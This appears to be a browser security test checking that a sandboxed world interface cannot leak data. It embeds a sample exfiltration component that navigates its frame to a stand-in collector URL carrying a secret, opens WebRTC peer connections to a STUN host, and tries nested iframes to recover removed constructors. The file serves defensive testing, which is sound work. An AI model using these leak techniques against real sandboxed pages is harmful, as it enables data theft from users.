import { readFileSync } from 'node:fs';
import { HOST_PAGE_HEADER_POLICY, HOST_PAGE_POLICY } from '@yumina/sandbox';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useBrowserPlatform } from '../support/browser-platform.ts';
import { type Collector, startCollector } from '../support/collector.ts';
import type { TestServer } from '../support/server.ts';
import { signUp } from '../support/sign-up.ts';

/**
 * Item 10 of issue 18: a world's interface cannot carry data out by navigating its frame, nor by
 * WebRTC (the frame runtime removes its constructors: no CSP directive that browsers implement
 * blocks it). The collector (HTTP and UDP on one loopback port) stands for the attacker's server:
 * it must count 0 HTTP requests and 0 datagrams, and the player shows the interface as stopped.
 */
function attackWorld(port: number) {
  const world = JSON.parse(readFileSync(new URL('../../packages/world/samples/willow-street.json', import.meta.url), 'utf8')) as Record<string, unknown>;
  world.name = 'Leaky Interface';
  world.rootComponent = {
    id: '1a2b3c4d-0000-4000-8000-00000000beef',
    name: 'Leak',
    entryFile: 'index.tsx',
    updatedAt: '2026-11-24T00:00:00.000Z',
    files: {
      'index.tsx': `
const COLLECTOR = 'http://127.0.0.1:${port}';
const STUN = 'stun:127.0.0.1:${port}';
function peer(Ctor: any) {
  const pc = new Ctor({ iceServers: [{ urls: STUN }] });
  pc.createDataChannel('leak');
  pc.createOffer().then((offer: any) => pc.setLocalDescription(offer));
}
export default function Leak() {
  const [log, setLog] = React.useState<string[]>([]);
  React.useEffect(() => {
    const note = (line: string) => setLog((l) => [...l, line]);
    try { peer((window as any).RTCPeerConnection); note('rtc: opened'); } catch (e) { note('rtc: ' + String(e)); }
    try { peer((window as any).webkitRTCPeerConnection); note('webkit rtc: opened'); } catch (e) { note('webkit rtc: ' + String(e)); }
    // A fresh realm has its own constructors: a nested frame.
    try {
      const f = document.createElement('iframe');
      document.body.appendChild(f);
      peer((window as any)[0].RTCPeerConnection);
      note('nested rtc: opened');
    } catch (e) { note('nested: ' + String(e)); }
    try {
      document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
      peer((window as any)[0].RTCPeerConnection);
      note('markup rtc: opened');
    } catch (e) { note('markup: ' + String(e)); }
    const timer = setTimeout(() => {
      location = (COLLECTOR + '/?d=secret') as any;
      window.location.href = COLLECTOR + '/?d=secret';
    }, 1500);
    return () => clearTimeout(timer);
  }, []);
  return <ul data-testid="leak-log">{log.map((line, i) => <li key={i}>{line}</li>)}</ul>;
}
`,
    },
  };
  return world;
}

describe("a world's frame cannot carry data out", () => {
  let server: TestServer;
  let browser: Browser;
  let collector: Collector;
  useBrowserPlatform({}, (p) => ({ server, browser } = p));
  beforeAll(async () => {
    collector = await startCollector();
  });
  afterAll(async () => {
    await collector?.close();
  });

  it('the player page sends the host policy: frame-src admits only the srcdoc frame; only the platform may frame the page', async () => {
    const res = await fetch(`${server.url}/play/wld_x`, { headers: { accept: 'text/html' } });
    const policy = res.headers.get('content-security-policy') ?? '';
    expect(policy).toBe(HOST_PAGE_HEADER_POLICY);
    expect(policy).toContain("frame-src 'none'");
    expect(policy).toContain("frame-ancestors 'self'");
    // The built shell carries the meta-safe part for static hosting (a meta element cannot carry frame-ancestors).
    const html = await res.text();
    expect(html).toContain(`content="${HOST_PAGE_POLICY}"`);
    expect(HOST_PAGE_POLICY).not.toContain('frame-ancestors');
  });

  it("an interface that navigates itself to a collector and opens RTCPeerConnections: 0 requests, 0 packets, the interface shown as stopped", async () => {
    const context = await browser.newContext();
    try {
      const signup = await signUp(server, context, { email: 'leaky-author@example.com', password: 'long enough pw' });
      expect(signup.status).toBe(201);
      const created = await context.request.post(`${server.url}/api/worlds`, { data: { world: attackWorld(collector.port) } });
      expect(created.status()).toBe(201);
      const { id } = (await created.json()) as { id: string };

      const page = await context.newPage();
      page.setDefaultTimeout(40_000);
      await page.goto(`${server.url}/play/${id}`);
      const frame = page.frameLocator('[data-testid=sandbox-frame]');
      // The attempts ran (and were refused) before the navigation.
      await expect.poll(() => frame.getByTestId('leak-log').locator('li').allTextContents(), { timeout: 60_000 }).toHaveLength(4);
      const log = await frame.getByTestId('leak-log').locator('li').allTextContents();
      expect(log.filter((l) => l.includes('opened'))).toEqual([]);
      // The navigation is refused by the browser and the host tears the frame down.
      await expect.poll(() => page.getByTestId('sandbox-error').textContent().catch(() => null), { timeout: 30_000 }).toMatch(/stopped/);
      expect(await page.getByTestId('sandbox-frame').count()).toBe(0);
      expect(new URL(page.url()).origin).toBe(server.url);
      // Give any late packet or request time to arrive.
      await page.waitForTimeout(3000);
      // Not one request and not one packet. (Chromium may still open a bare TCP connection to the
      // refused navigation's host before refusing it — no request, no data; see docs/SECURITY.md.)
      expect({ requests: collector.requests, datagrams: collector.datagrams }).toEqual({ requests: [], datagrams: 0 });
    } finally {
      await context.close();
    }
  }, 120_000);
});
